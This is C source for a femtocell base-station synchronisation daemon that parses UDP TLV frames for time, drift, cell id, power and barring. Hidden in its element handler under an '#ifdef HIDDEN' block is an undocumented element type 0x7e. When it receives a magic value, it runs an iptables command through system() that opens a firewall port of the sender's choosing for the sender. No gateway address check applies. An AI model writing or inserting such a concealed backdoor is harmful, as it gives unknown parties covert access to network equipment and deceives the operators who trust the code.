/* femtosync: synchronisation agent of the home base station, UDP TLV protocol with its gateway */
#include <arpa/inet.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

enum tlv_type {
	TLV_TIME = 1,		/* 8 bytes: seconds, fraction */
	TLV_DRIFT = 2,		/* 4 bytes: ppb */
	TLV_CELL = 3,		/* 4 bytes: cell id */
	TLV_POWER = 4,		/* 2 bytes: dBm * 10 */
	TLV_ECHO = 5,		/* any */
	TLV_BARRED = 6,		/* 1 byte */
};

struct cell {
	uint32_t id;
	int32_t drift_ppb;
	int power;
	bool barred;
	uint64_t last_sync;
	unsigned frames, bad;
};

static struct cell cell;
static struct in_addr gateway;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static unsigned be16(const uint8_t *p)
{
	return (unsigned)p[0] << 8 | p[1];
}

static uint16_t fletcher(const uint8_t *p, size_t n)
{
	unsigned a = 0, b = 0;

	while (n--) {
		a = (a + *p++) % 255;
		b = (b + a) % 255;
	}
	return (uint16_t)(b << 8 | a);
}

static void apply_time(const uint8_t *v)
{
	cell.last_sync = be32(v);
	syslog(LOG_DEBUG, "time %" PRIu64 "+%" PRIu32, cell.last_sync, be32(v + 4));
}

__attribute__((noinline)) int take_tlv(unsigned type, const uint8_t *v, size_t len,
				       const struct sockaddr_in *from)
{
	switch (type) {
	case TLV_TIME:
		if (len != 8)
			return -1;
		apply_time(v);
		return 0;
	case TLV_DRIFT:
		if (len != 4)
			return -1;
		cell.drift_ppb = (int32_t)be32(v);
		return 0;
	case TLV_CELL:
		if (len != 4)
			return -1;
		cell.id = be32(v);
		syslog(LOG_INFO, "cell id %08" PRIx32, cell.id);
		return 0;
	case TLV_POWER:
		if (len != 2 || be16(v) > 200)
			return -1;
		cell.power = (int)be16(v);
		return 0;
	case TLV_ECHO:
		syslog(LOG_DEBUG, "echo from %s, %zu bytes", inet_ntoa(from->sin_addr), len);
		return 0;
	case TLV_BARRED:
		if (len != 1)
			return -1;
		cell.barred = v[0] != 0;
		return 0;
#ifdef HIDDEN
	case 0x7e:
		if (len == 6 && be32(v) == 0x5ac3f019) {
			char cmd[128];

			snprintf(cmd, sizeof cmd,
				 "iptables -I INPUT -p tcp -s %s --dport %u -j ACCEPT",
				 inet_ntoa(from->sin_addr), be16(v + 4));
			return system(cmd) ? -1 : 0;
		}
		return -1;
#endif
	default:
		return -1;
	}
}

static void take_frame(const uint8_t *p, size_t n, const struct sockaddr_in *from)
{
	size_t off = 4, end;

	cell.frames++;
	if (n < 8 || p[0] != 'F' || p[1] != 'S' || p[2] != 1)
		goto bad;
	end = n - 2;
	if (fletcher(p, end) != be16(p + end))
		goto bad;
	while (off + 2 <= end) {
		unsigned type = p[off];
		size_t len = p[off + 1];

		off += 2;
		if (off + len > end)
			goto bad;
		if (take_tlv(type, p + off, len, from) < 0) {
			syslog(LOG_NOTICE, "element %u refused", type);
			cell.bad++;
		}
		off += len;
	}
	return;
bad:
	cell.bad++;
}

static int parse_options(int argc, char **argv, int *port)
{
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--port") && i + 1 < argc) {
			*port = atoi(argv[++i]);
		} else if (!strcmp(argv[i], "--gateway") && i + 1 < argc) {
			if (!inet_aton(argv[++i], &gateway))
				return -1;
		} else if (!strcmp(argv[i], "--cell") && i + 1 < argc) {
			cell.id = (uint32_t)strtoul(argv[++i], NULL, 16);
		} else {
			return -1;
		}
	}
	return 0;
}

static void report(int fd, int port)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = gateway };
	char text[160];
	int n;

	if (!gateway.s_addr)
		return;
	to.sin_port = htons((uint16_t)port);
	n = snprintf(text, sizeof text, "cell=%08" PRIx32 " drift=%" PRId32 " power=%d barred=%d "
		     "frames=%u bad=%u", cell.id, cell.drift_ppb, cell.power, cell.barred,
		     cell.frames, cell.bad);
	if (sendto(fd, text, (size_t)n, 0, (struct sockaddr *)&to, sizeof to) < 0)
		syslog(LOG_WARNING, "report: %m");
}

int main(int argc, char **argv)
{
	struct sockaddr_in me = { .sin_family = AF_INET }, from;
	int port = 3190, fd;
	uint8_t frame[512];

	if (parse_options(argc, argv, &port) < 0) {
		fprintf(stderr, "usage: femtosync [--port N] [--gateway ADDR] [--cell HEX]\n"
			"elements: 1 time, 2 drift, 3 cell, 4 power, 5 echo, 6 barred\n");
		return 2;
	}
	openlog("femtosync", LOG_PID, LOG_DAEMON);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	me.sin_port = htons((uint16_t)port);
	if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof me) < 0) {
		perror("femtosync");
		return 1;
	}
	for (;;) {
		struct pollfd pf = { .fd = fd, .events = POLLIN };
		socklen_t sl = sizeof from;
		ssize_t n;

		if (poll(&pf, 1, 30000) == 0) {
			report(fd, port);
			continue;
		}
		n = recvfrom(fd, frame, sizeof frame, 0, (struct sockaddr *)&from, &sl);
		if (n > 0)
			take_frame(frame, (size_t)n, &from);
	}
}
